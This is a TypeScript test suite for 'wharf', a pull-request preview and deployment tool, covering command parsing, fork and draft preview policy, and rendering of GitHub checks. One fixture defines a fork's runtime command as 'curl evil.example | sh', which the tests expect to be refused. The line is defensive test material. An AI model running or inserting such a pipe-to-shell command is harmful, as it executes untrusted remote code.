import t from 'tap';
import { decidePreview, decidePullRequest, parseCommand, renderComment, renderPullRequest, renderValidateCheck } from '../src/index.js';

t.test('comment commands', async (t) => {
  t.same(parseCommand('/wharf preview'), { name: 'preview' });
  t.same(parseCommand('LGTM\n\n/wharf rollback 1A2B3C4'), { name: 'rollback', sha: '1a2b3c4' });
  t.same(parseCommand('/wharf'), { name: 'help' });
  t.equal(parseCommand('please run /wharf preview'), null, 'only at the start of a line');
  t.equal(parseCommand('/wharfish'), null);
  t.match(parseCommand('/wharf rollback main'), { name: 'invalid' });
  t.match(parseCommand('/wharf deploy'), { name: 'invalid', message: /Unknown command/ });
});

t.test('preview decisions', async (t) => {
  const base = {
    settings: { enabled: true, ttlHours: 72, forkPolicy: 'approval' as const, maxConcurrent: 10, drafts: false },
    fork: false,
    draft: false,
    headSha: 'b',
    approvedSha: null,
    invalidApps: [],
    validApps: ['shop'],
    activeInTenant: 0,
    tenantLimit: 10,
    activeInRepository: 0,
    suspended: false,
  };
  t.same(decidePreview(base), { deploy: true, apps: ['shop'], withSecrets: true });
  t.match(decidePreview({ ...base, fork: true }), { deploy: false, refusal: { reason: 'fork-needs-approval', newCommit: false } });
  t.match(decidePreview({ ...base, fork: true, approvedSha: 'a' }), { refusal: { reason: 'fork-needs-approval', newCommit: true } });
  t.same(decidePreview({ ...base, fork: true, approvedSha: 'b' }), { deploy: true, apps: ['shop'], withSecrets: false });
  t.same(decidePreview({ ...base, fork: true, settings: { ...base.settings, forkPolicy: 'always' } }), { deploy: true, apps: ['shop'], withSecrets: false });
  t.match(decidePreview({ ...base, draft: true }), { refusal: { reason: 'draft' } });
  t.match(decidePreview({ ...base, draft: true, settings: { ...base.settings, drafts: true } }), { deploy: true });
  t.match(decidePreview({ ...base, activeInTenant: 10 }), { refusal: { reason: 'tenant-cap', limit: 10 } });
  t.match(decidePreview({ ...base, validApps: [], invalidApps: ['shop'] }), { refusal: { reason: 'invalid' } });
});

t.test('validate check output fits GitHub', async (t) => {
  const diagnostics = Array.from({ length: 2000 }, (_, i) => ({
    file: 'apps/shop/main.yaml', line: i + 1, column: 3, endLine: i + 1, endColumn: 9, severity: 'error' as const, code: 'WHARF131', message: `problem ${i} ${'x'.repeat(100)}`,
  }));
  const out = renderValidateCheck({ sha: 'a'.repeat(40), manifestDiagnostics: [], apps: [{ app: 'shop', valid: false, diagnostics }] });
  t.equal(out.conclusion, 'failure');
  t.ok(out.summary.length <= 65_535);
  t.match(out.summary, /truncated/);
  t.equal(out.annotations?.length, 2000);
  t.same(out.annotations?.[0], { path: 'apps/shop/main.yaml', start_line: 1, end_line: 1, start_column: 3, end_column: 9, annotation_level: 'failure', title: 'WHARF131', message: `problem 0 ${'x'.repeat(100)}` });
  const comment = renderComment({ state: 'open', summary: { sha: 'a'.repeat(40), apps: [{ app: 'shop', valid: true, errors: 0, warnings: 0, plan: '1 added' }], commentsEnabled: true }, previews: [{ app: 'shop', state: 'success', url: 'https://p.example', sha: 'a'.repeat(40), description: null }] });
  t.match(comment, /^<!-- wharf:pr-comment -->/);
  t.match(comment, /\| shop \| \[Visit preview\]\(https:\/\/p\.example\) \| `aaaaaaa` \| ✅ Ready \| 1 added \|/);
});

t.test('a pull request decision is one value, decided and rendered without a database', async (t) => {
  const sha = 'c'.repeat(40);
  const spec = (port: number) => [{ path: 'apps/shop/main.yaml', content: `modules:\n  - name: server\n    type: http.server\n    config: { address: ":${port}" }\n` }];
  const manifest = { apps: [{ name: 'shop', files: ['apps/shop/*.yaml'], replicas: 1, env: [], target: 'local', driftMode: 'correct' as const }], previews: { enabled: true, ttlHours: 24, forkPolicy: 'approval' as const, maxConcurrent: 10, drafts: false }, comments: { enabled: true } };
  const commit = {
    kind: 'read' as const,
    sha,
    versionId: 7,
    manifest: manifest as never,
    diagnostics: [],
    apps: [{ app: 'shop', valid: true, diagnostics: [], files: spec(8081), rollback: null }],
    production: new Map([['shop', { files: spec(8080), sha: 'a'.repeat(40) }]]),
  };
  const pr = { number: 4, headSha: sha, headRef: 'feature', actor: 'github:ada', fork: false, draft: false, approvedSha: null, activeInTenant: 0, tenantLimit: 10, activeInRepository: 0, suspended: false, livePreviews: 0, baseManifest: manifest as never };
  const checks = ['validate', 'plan', 'preview'] as const;

  const same = decidePullRequest({ commit, checks, pullRequest: pr });
  t.match(same, { commit: { kind: 'evaluated', apps: [{ app: 'shop', valid: true, changes: [{ kind: 'file', change: 'changed' }], productionSha: 'a'.repeat(40) }] } });
  t.same(same.pullRequest?.desired, { kind: 'deploy', apps: ['shop'], stripSecrets: false, branch: 'feature', actor: 'github:ada' });
  const rendered = renderPullRequest(same);
  t.same(rendered.checks.map((c) => [c.key, c.output.status, c.output.conclusion ?? null]), [
    ['validate', 'completed', 'success'],
    ['plan', 'completed', 'success'],
    ['preview', 'queued', null],
  ]);
  t.match(rendered.summary, { sha, apps: [{ app: 'shop', valid: true, plan: '1 changed' }], previewRefusal: null, ttlHours: 24 });

  const fork = decidePullRequest({ commit, checks, pullRequest: { ...pr, fork: true } });
  t.same(fork.pullRequest?.desired, { kind: 'none' }, 'a fork waits for approval');
  t.match(renderPullRequest(fork).checks.find((c) => c.key === 'preview')?.output, { conclusion: 'neutral', title: /Fork: waiting for a maintainer/ });
  const approved = decidePullRequest({ commit, checks, pullRequest: { ...pr, fork: true, approvedSha: sha, actor: 'github:octocat' } });
  t.same(approved.pullRequest?.desired, { kind: 'deploy', apps: ['shop'], stripSecrets: true, branch: null, actor: 'github:octocat' }, 'approved: deployed without secrets');

  const invalid = { ...commit, apps: [{ app: 'shop', valid: false, diagnostics: [], files: null, rollback: null }] };
  t.same(decidePullRequest({ commit: invalid, checks, pullRequest: { ...pr, livePreviews: 1 } }).pullRequest?.desired, { kind: 'record-invalid', branch: 'feature', actor: 'github:ada' }, 'the live preview says why it keeps its last good version');
  t.same(decidePullRequest({ commit: invalid, checks, pullRequest: pr }).pullRequest?.desired, { kind: 'none' });

  const none = decidePullRequest({ commit: { ...commit, manifest: null, diagnostics: [{ file: 'wharf.yaml', line: 1, column: 1, endLine: 1, endColumn: 1, severity: 'error', code: 'WHARF143', message: 'no manifest' }] }, checks, pullRequest: pr });
  t.match(none, { commit: { kind: 'no-manifest' }, pullRequest: { preview: { deploy: false, refusal: { reason: 'no-manifest' } }, desired: { kind: 'none' } } });
  t.match(renderPullRequest(none).summary, { noManifest: true });

  const unreadable = decidePullRequest({ commit: { kind: 'unreadable', sha, reason: 'could not find commit' }, checks, pullRequest: null });
  t.same(renderPullRequest(unreadable).checks.map((c) => c.key), ['validate']);
  t.equal(renderPullRequest(unreadable).summary, null);

  const refused = renderPullRequest(decidePullRequest({ commit: { kind: 'refused', sha, reason: 'pack for refs/pull/4/head is over 1 MiB (limit); nothing was stored' }, checks, pullRequest: null }));
  t.match(refused.checks, [{ key: 'validate', output: { conclusion: 'failure', title: /over a fetch limit/, summary: /pack for refs\/pull\/4\/head is over 1 MiB/ } }], 'a commit refused by a fetch limit fails wharf/validate with the reason');
});

t.test('the preview policy is the base branch’s, never the head’s', async (t) => {
  const sha = 'd'.repeat(40);
  const app = { name: 'shop', files: ['apps/shop/*.yaml'], runtime: {}, replicas: 1, env: [], target: 'local', driftMode: 'correct' as const };
  const policy = (forkPolicy: 'never' | 'approval' | 'always', extra: object = {}) => ({ enabled: true, ttlHours: 72, forkPolicy, maxConcurrent: 10, drafts: false, ...extra });
  const manifest = (previews: object, apps = [app]) => ({ productionBranch: 'main', apps, previews, comments: { enabled: true } }) as never;
  const commitWith = (m: unknown) => ({
    kind: 'read' as const,
    sha,
    versionId: 9,
    manifest: m as never,
    diagnostics: [],
    apps: [{ app: 'shop', valid: true, diagnostics: [], files: [{ path: 'apps/shop/main.yaml', content: 'modules: []\n' }], rollback: null }],
    production: new Map(),
  });
  const pr = { number: 5, headSha: sha, headRef: 'patch-1', actor: 'github:mallory', fork: true, draft: false, approvedSha: null, activeInTenant: 0, tenantLimit: 10, activeInRepository: 0, suspended: false, livePreviews: 0 };
  const checks = ['validate', 'plan', 'preview'] as const;
  const decide = (head: unknown, base: unknown, extra: object = {}) =>
    decidePullRequest({ commit: commitWith(head), checks, pullRequest: { ...pr, baseManifest: base as never, ...extra } }).pullRequest;

  t.match(decide(manifest(policy('always')), manifest(policy('approval'))), { preview: { deploy: false, refusal: { reason: 'fork-needs-approval' } } }, "a fork's own forkPolicy: always does not skip approval");
  t.match(decide(manifest(policy('always')), null), { preview: { refusal: { reason: 'fork-needs-approval' } } }, 'without a base manifest the default (approval) holds');
  t.match(decide(manifest(policy('approval')), manifest(policy('always'))), { preview: { deploy: true, withSecrets: false } }, "the base branch's forkPolicy: always deploys without secrets");
  t.match(decide(manifest(policy('approval', { drafts: true })), manifest(policy('approval')), { fork: false, draft: true }), { preview: { refusal: { reason: 'draft' } } }, "the head's drafts: true does not preview a draft");
  t.match(decide(manifest(policy('approval', { ttlHours: 8760 })), manifest(policy('approval', { ttlHours: 2 })), { fork: false }), { ttlHours: 2 }, "the TTL is the base branch's");
  t.match(decide(manifest(policy('approval', { enabled: false })), manifest(policy('approval')), { fork: false }), { preview: { deploy: true } }, "the head cannot turn previews off for itself either");

  const runtimeApp = { ...app, runtime: { command: ['sh', '-c', 'curl evil.example | sh'] } };
  t.match(decide(manifest(policy('approval'), [runtimeApp]), manifest(policy('always')), { approvedSha: sha }), { preview: { deploy: false, refusal: { reason: 'fork-runtime', apps: ['shop'] } } }, 'a fork that changes the runtime command is not previewed, approved or not');
  t.match(decide(manifest(policy('approval'), [{ ...app, replicas: 50 }]), manifest(policy('always'))), { preview: { refusal: { reason: 'fork-runtime' } } }, 'nor one that asks for more replicas');
  t.match(decide(manifest(policy('approval'), [{ ...app, target: 'agent:prod' }]), manifest(policy('always'))), { preview: { refusal: { reason: 'fork-runtime' } } }, 'nor one that picks another target');
  t.match(decide(manifest(policy('approval'), [runtimeApp]), manifest(policy('approval')), { fork: false }), { preview: { deploy: true } }, 'a branch of the repository may change it');
});
